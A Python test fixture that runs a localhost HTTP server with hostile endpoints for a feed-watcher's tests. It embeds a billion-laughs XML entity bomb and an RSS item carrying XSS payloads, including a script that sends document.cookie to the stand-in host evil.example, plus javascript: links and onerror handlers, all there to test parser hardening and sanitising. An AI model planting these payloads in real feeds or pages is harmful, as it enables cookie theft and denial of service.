"""A local HTTP server for the watch tests: real sockets, real headers, hostile endpoints.

Routes:
  /feeds/<file>, /ics/<file>   fixture files, with ETag/Last-Modified and 304 on a matching validator;
                               Content-Type from the file's ``Header:`` comment, else by extension
                               (with ``charset=utf-8`` when the bytes are UTF-8)
  /redirect/<n>?to=<path>      n redirects (302) then ``to``
  /slow                        waits longer than the test timeout before answering
  /trickle                     sends one byte every 0.2 s
  /huge                        streams 50 MB without Content-Length
  /huge-declared               announces 50 MB in Content-Length
  /error500                    a 500
  /billion-laughs              the classic nested-entity bomb
  /html-page                   an HTML page announcing a feed
  /no-dates                    an RSS feed whose items have no date or a broken one
  /script-item                 an RSS item with <script>, an event handler and a javascript: link
  /page                        the web page in ``server.page_html`` (tests change it between polls)
  /dynamic                     the feed in ``server.dynamic_body`` with ``server.dynamic_type``
"""

import hashlib
import re
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

FIXTURES = Path(__file__).parent / "fixtures"
LAST_MODIFIED = "Mon, 06 Jan 2025 08:00:00 GMT"
HUGE_BYTES = 50 * 1024 * 1024

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel><title>&lol9;</title><item><title>&lol9;</title></item></channel></rss>
"""

HTML_PAGE = b"""<!DOCTYPE html><html><head><title>SPW Environnement</title>
<link rel="alternate" type="application/rss+xml" href="/feeds/rss-parser__nhs-feed.rss"></head>
<body><h1>Actualit\xc3\xa9s</h1><p>Bienvenue.</p></body></html>"""

NO_DATES = (
    '<?xml version="1.0" encoding="utf-8"?>\n<rss version="2.0"><channel><title>Sans dates</title>\n'
    "<item><title>Permis d'environnement : nouvelles conditions sectorielles</title>"
    "<link>https://www.wallonie.example/permis</link></item>\n"
    "<item><title>Déchets de construction : tri à la source</title><link>https://www.wallonie.example/tri</link>"
    "<pubDate>le 32 du mois de Brumaire</pubDate></item>\n"
    "<item><title>Un élément daté</title><link>https://www.wallonie.example/date</link>"
    "<pubDate>Tue, 07 Jan 2025 10:00:00 +0100</pubDate></item>\n"
    "</channel></rss>"
).encode()

SCRIPT_ITEM = (
    '<?xml version="1.0" encoding="utf-8"?>\n<rss version="2.0"><channel><title>Hostile</title>\n'
    "<item><title>Amiante &lt;script&gt;alert(1)&lt;/script&gt; dans les bâtiments</title>\n"
    "<link>https://www.hostile.example/a?utm_source=rss&amp;id=3#top</link>\n"
    "<pubDate>Tue, 07 Jan 2025 10:00:00 +0100</pubDate>\n"
    '<description><![CDATA[<p onclick="steal()">Nouvelle obligation <b>amiante</b>.</p>'
    "<script>document.location='https://evil.example/'+document.cookie</script>"
    '<a href="javascript:alert(2)">clic</a><img src="x" onerror="alert(3)">]]></description>\n'
    "</item></channel></rss>"
).encode()


def _content_type_for(path: Path, body: bytes) -> str:
    match = re.search(rb"Header:\s*Content-type:\s*([^\r\n]+)", body[:600], re.I)
    if match:
        return match.group(1).decode().strip()
    kind = {
        ".json": "application/feed+json",
        ".atom": "application/atom+xml",
        ".rss": "application/rss+xml",
        ".ics": "text/calendar",
    }.get(path.suffix, "application/xml")
    try:
        body.decode("utf-8")
    except UnicodeDecodeError:
        return kind
    return f"{kind}; charset=utf-8"


class Handler(BaseHTTPRequestHandler):
    server: "FeedServer"
    protocol_version = "HTTP/1.1"

    def log_message(self, *args) -> None:  # keep test output clean
        pass

    def _send(self, status: int, body: bytes = b"", headers: dict[str, str] | None = None) -> None:
        self.send_response(status)
        for name, value in (headers or {}).items():
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        if body and self.command != "HEAD":
            self.wfile.write(body)

    def do_GET(self) -> None:
        parts = urlsplit(self.path)
        self.server.requests.append((parts.path, dict(self.headers), time.monotonic()))
        route = parts.path.strip("/").split("/")
        try:
            handler = getattr(self, "route_" + route[0].replace("-", "_"), None)
            if handler is None:
                self._send(404, b"not found")
            else:
                handler(route[1:], parse_qs(parts.query))
        except (BrokenPipeError, ConnectionResetError):
            pass  # the client gave up (size limit, timeout): that is what the test wanted

    def _serve_file(self, path: Path) -> None:
        if not path.is_file() or FIXTURES not in path.resolve().parents:
            self._send(404, b"not found")
            return
        body = path.read_bytes()
        etag = '"' + hashlib.sha1(body).hexdigest() + '"'
        if self.headers.get("If-None-Match") == etag or self.headers.get("If-Modified-Since") == LAST_MODIFIED:
            self._send(304, b"", {"ETag": etag, "Last-Modified": LAST_MODIFIED})
            return
        headers = {"Content-Type": _content_type_for(path, body), "ETag": etag, "Last-Modified": LAST_MODIFIED}
        self._send(200, body, headers)

    def route_feeds(self, rest: list[str], query) -> None:
        self._serve_file(FIXTURES / "feeds" / "/".join(rest))

    def route_ics(self, rest: list[str], query) -> None:
        self._serve_file(FIXTURES / "ics" / "/".join(rest))

    def route_redirect(self, rest: list[str], query) -> None:
        hops = int(rest[0]) if rest and rest[0].isdigit() else 1
        target = query.get("to", ["/feeds/rss-parser__nhs-feed.rss"])[0]
        location = f"/redirect/{hops - 1}?to={target}" if hops > 1 else target
        self._send(302, b"", {"Location": location})

    def route_slow(self, rest, query) -> None:
        time.sleep(self.server.slow_seconds)
        self._send(200, b"<rss version='2.0'><channel></channel></rss>", {"Content-Type": "application/rss+xml"})

    def route_trickle(self, rest, query) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "application/rss+xml")
        self.send_header("Content-Length", "1000")
        self.end_headers()
        for _ in range(1000):
            self.wfile.write(b" ")
            self.wfile.flush()
            time.sleep(0.2)

    def route_huge(self, rest, query) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "application/rss+xml")
        self.send_header("Connection", "close")
        self.end_headers()
        chunk = b"<!-- padding -->" * 4096
        sent = 0
        while sent < HUGE_BYTES:
            self.wfile.write(chunk)
            sent += len(chunk)
        self.server.huge_bytes_sent = sent

    def route_huge_declared(self, rest, query) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "application/rss+xml")
        self.send_header("Content-Length", str(HUGE_BYTES))
        self.end_headers()
        self.wfile.write(b"<rss>")

    def route_error500(self, rest, query) -> None:
        self._send(500, b"Internal Server Error", {"Content-Type": "text/plain"})

    def route_billion_laughs(self, rest, query) -> None:
        self._send(200, BILLION_LAUGHS, {"Content-Type": "application/rss+xml"})

    def route_html_page(self, rest, query) -> None:
        self._send(200, HTML_PAGE, {"Content-Type": "text/html; charset=utf-8"})

    def route_no_dates(self, rest, query) -> None:
        self._send(200, NO_DATES, {"Content-Type": "application/rss+xml; charset=utf-8"})

    def route_script_item(self, rest, query) -> None:
        self._send(200, SCRIPT_ITEM, {"Content-Type": "application/rss+xml; charset=utf-8"})

    def route_page(self, rest, query) -> None:
        self._send(200, self.server.page_html.encode(), {"Content-Type": "text/html; charset=utf-8"})

    def route_dynamic(self, rest, query) -> None:
        self._send(200, self.server.dynamic_body, {"Content-Type": self.server.dynamic_type})


class FeedServer(ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Handler)
        self.requests: list[tuple[str, dict, float]] = []
        self.slow_seconds = 3.0
        self.huge_bytes_sent = 0
        self.page_html = "<html><body><main><p>Version 1</p></main></body></html>"
        self.dynamic_body = b""
        self.dynamic_type = "application/rss+xml; charset=utf-8"

    @property
    def base(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"

    def url(self, path: str) -> str:
        return self.base + path

    def start(self) -> "FeedServer":
        threading.Thread(target=self.serve_forever, daemon=True).start()
        return self

    def stop(self) -> None:
        self.shutdown()
        self.server_close()
